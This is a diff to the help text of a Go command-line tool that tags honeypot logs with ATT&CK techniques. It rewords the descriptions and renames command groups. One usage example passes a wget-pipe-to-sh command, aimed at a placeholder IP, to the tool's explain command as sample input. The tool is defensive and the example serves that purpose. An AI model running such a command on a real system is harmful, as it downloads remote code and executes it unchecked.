@@ -44,10 +44,10 @@ func rootCommand() *command {
 	return &command{
 		Name:  "",
 		Args:  "COMMAND",
-		Short: "ATT&CK techniques in what honeypots recorded",
-		Text: `ttpcron imports honeypot logs into one file, replays windows of them through
-a set of rules and keeps what the rules find as tags. It opens no network
-connection and tells nobody but you.`,
+		Short: "tag honeypot logs with ATT&CK techniques",
+		Text: `ttpcron imports honeypot logs into one file, replays any part of them through a
+set of rules, and tags each event with the ATT&CK techniques that it shows. It
+never opens a network connection.`,
 		Examples: `ttpcron import /var/log/cowrie
 ttpcron run-once --since-days 30
 ttpcron tags --since 7d
@@ -73,14 +73,14 @@ ttpcron explain "wget http://203.0.113.9/x.sh -O- | sh"`,
 				filesCommand(),
 				explainCommand(),
 			),
-			cli.Under("hand it on",
+			cli.Under("export",
 				exportCommand(),
 				exportEventsCommand(),
 			),
 			cli.Under("rules",
 				rulesCommands(),
 			),
-			cli.Under("look after the store",
+			cli.Under("maintain the store",
 				statusCommand(),
 				checkpointCommands(),
 				dbCommands(),
